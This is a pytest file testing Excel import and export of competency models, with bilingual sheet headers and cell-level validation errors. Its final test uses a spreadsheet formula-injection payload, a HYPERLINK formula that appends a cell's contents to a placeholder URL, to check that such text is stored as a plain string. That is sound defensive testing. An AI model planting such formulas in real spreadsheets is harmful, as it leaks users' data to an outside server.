import io

import pytest
from openpyxl import load_workbook

from casspath.competency import schema
from casspath.competency.actions.loading import do_load_default_model, do_load_model_data
from casspath.competency.errors import CompetencyImportInvalid
from casspath.competency.excel import export_model_xlsx, parse_model_xlsx, template_xlsx
from casspath.competency.schema import model_data
from casspath.core.actors import SystemActor
from casspath.imports.errors import ImportFileError


def edit(xlsx: bytes, change) -> bytes:
    wb = load_workbook(io.BytesIO(xlsx))
    change(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_it_round_trips_a_model(world, model):
    assert parse_model_xlsx(export_model_xlsx(model)) == model_data(model)


def test_it_round_trips_the_default_model(world):
    model = do_load_default_model(org_unit=world.province, acting_user=SystemActor.cli())
    assert parse_model_xlsx(export_model_xlsx(model)) == model_data(model)


def test_it_writes_the_sheets_with_chinese_and_english_headers(world, model):
    wb = load_workbook(io.BytesIO(export_model_xlsx(model)))
    assert wb.sheetnames == ["模型", "等级", "维度", "行为指标", "要求"]
    dims = wb["维度"]
    assert [c.value for c in dims[1]][:4] == ["模块编码", "模块名称", "模块英文名称", "维度编码"]
    assert [c.value for c in dims[2]][:4] == ["module_code", "module_name", "module_name_en", "code"]
    assert [c.value for c in dims[3]][3:7] == ["D01", "目标客户寻找", "Prospecting", "岗位技能"]
    behaviours = wb["行为指标"]
    assert behaviours.max_row == 2 + 15
    assert behaviours["D5"].value == "寻找客户 L3 第一条\n寻找客户 L3 第二条"
    reqs = wb["要求"]
    assert [c.value for c in reqs[1]][:4] == ["维度编码", "维度名称", "成长期 等级", "成长期 权重%"]
    assert [c.value for c in reqs[3]][:4] == ["D01", "目标客户寻找", 2, 40]


def test_it_reads_a_file_without_the_english_header_row(world, model):
    def drop_row_2(wb):
        for ws in wb.worksheets:
            ws.delete_rows(2)
    assert parse_model_xlsx(edit(export_model_xlsx(model), drop_row_2)) == model_data(model)


def test_it_accepts_english_categories_and_codes_in_headers(world, model):
    def change(wb):
        wb["维度"]["G3"] = "skill"
        wb["维度"]["G4"] = "知识"
        wb["要求"]["C1"] = "growth level"
        wb["要求"]["D1"] = "Growth Weight"
    assert parse_model_xlsx(edit(export_model_xlsx(model), change)) == model_data(model)


def test_it_refuses_a_file_that_is_not_excel():
    with pytest.raises(ImportFileError) as info:
        parse_model_xlsx(b"name,code\nx,y\n")
    assert "Excel" in info.value.message_zh and "not an Excel" in info.value.message_en
    with pytest.raises(ImportFileError) as info:
        parse_model_xlsx(b"PK\x03\x04broken zip")
    assert "cannot read" in info.value.message_en


def test_it_names_a_missing_sheet_and_a_missing_column(world, model):
    xlsx = export_model_xlsx(model)
    with pytest.raises(ImportFileError) as info:
        parse_model_xlsx(edit(xlsx, lambda wb: wb.remove(wb["行为指标"])))
    assert "行为指标" in info.value.message_zh and "行为指标" in info.value.message_en
    with pytest.raises(ImportFileError) as info:
        parse_model_xlsx(edit(xlsx, lambda wb: wb["维度"].delete_cols(7)))
    assert "类别" in info.value.message_zh and "类别" in info.value.message_en


def test_it_collects_every_bad_cell(world, model):
    def spoil(wb):
        wb["维度"]["G4"] = "天赋"           # unknown category, row 4
        wb["维度"]["D5"] = "D01"            # duplicate dimension code, row 5
        wb["行为指标"]["C3"] = 7            # level out of range
        wb["行为指标"]["A4"] = "D99"        # unknown dimension
        wb["要求"]["D3"] = "很多"           # weight not a number
        wb["要求"]["E4"] = 3               # development level for D02 without ...
        wb["要求"]["F4"] = None            # ... its weight
        wb["要求"]["K1"] = "神秘 等级"      # unknown column
    with pytest.raises(CompetencyImportInvalid) as info:
        parse_model_xlsx(edit(export_model_xlsx(model), spoil))
    found = {(e.row, e.column): e for e in info.value.errors}
    assert found[(4, "维度!类别")].value == "天赋"
    assert "category" in found[(4, "维度!类别")].reason_en
    assert "appears twice" in found[(5, "维度!维度编码")].reason_en
    assert "1-5" in found[(3, "行为指标!等级")].reason_en
    assert "not on the 维度 sheet" in found[(4, "行为指标!维度编码")].reason_en
    assert found[(3, "要求!成长期 权重%")].value == "很多"
    assert "weight is missing" in found[(4, "要求!发展期 等级")].reason_en
    assert "unknown column" in found[(1, "要求!神秘 等级")].reason_en
    assert all(e.reason_zh and e.reason_en for e in info.value.errors)
    assert "nothing was imported" in info.value.message_en


def test_it_writes_a_template_that_parses_to_an_empty_model(world):
    with pytest.raises(CompetencyImportInvalid) as info:
        parse_model_xlsx(template_xlsx())
    assert {e.column for e in info.value.errors} >= {"模型!模型编码", "等级!名称"}


def test_it_writes_formula_like_text_as_plain_strings_and_reads_it_back(world, model_data):
    hostile = '=HYPERLINK("http://x/?"&E2,"y")'
    model_data["name"] = "+1+1"
    module = model_data["modules"][0]
    module["name"] = "@SUM(A1)"
    module["dimensions"][0]["name"] = hostile
    module["dimensions"][0]["description"] = "-2+3"
    module["dimensions"][0]["levels"][0]["indicators"] = ["=1+1", "plain"]
    model = do_load_model_data(model_data, org_unit=world.province, acting_user=SystemActor.cli())
    data = export_model_xlsx(model)
    workbook = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [f"{cell.parent.title}!{cell.coordinate}" for cell in cells if cell.data_type == "f"]
    assert workbook["维度"]["E3"].value == hostile and workbook["维度"]["E3"].data_type == "s"
    assert parse_model_xlsx(data) == schema.model_data(model)
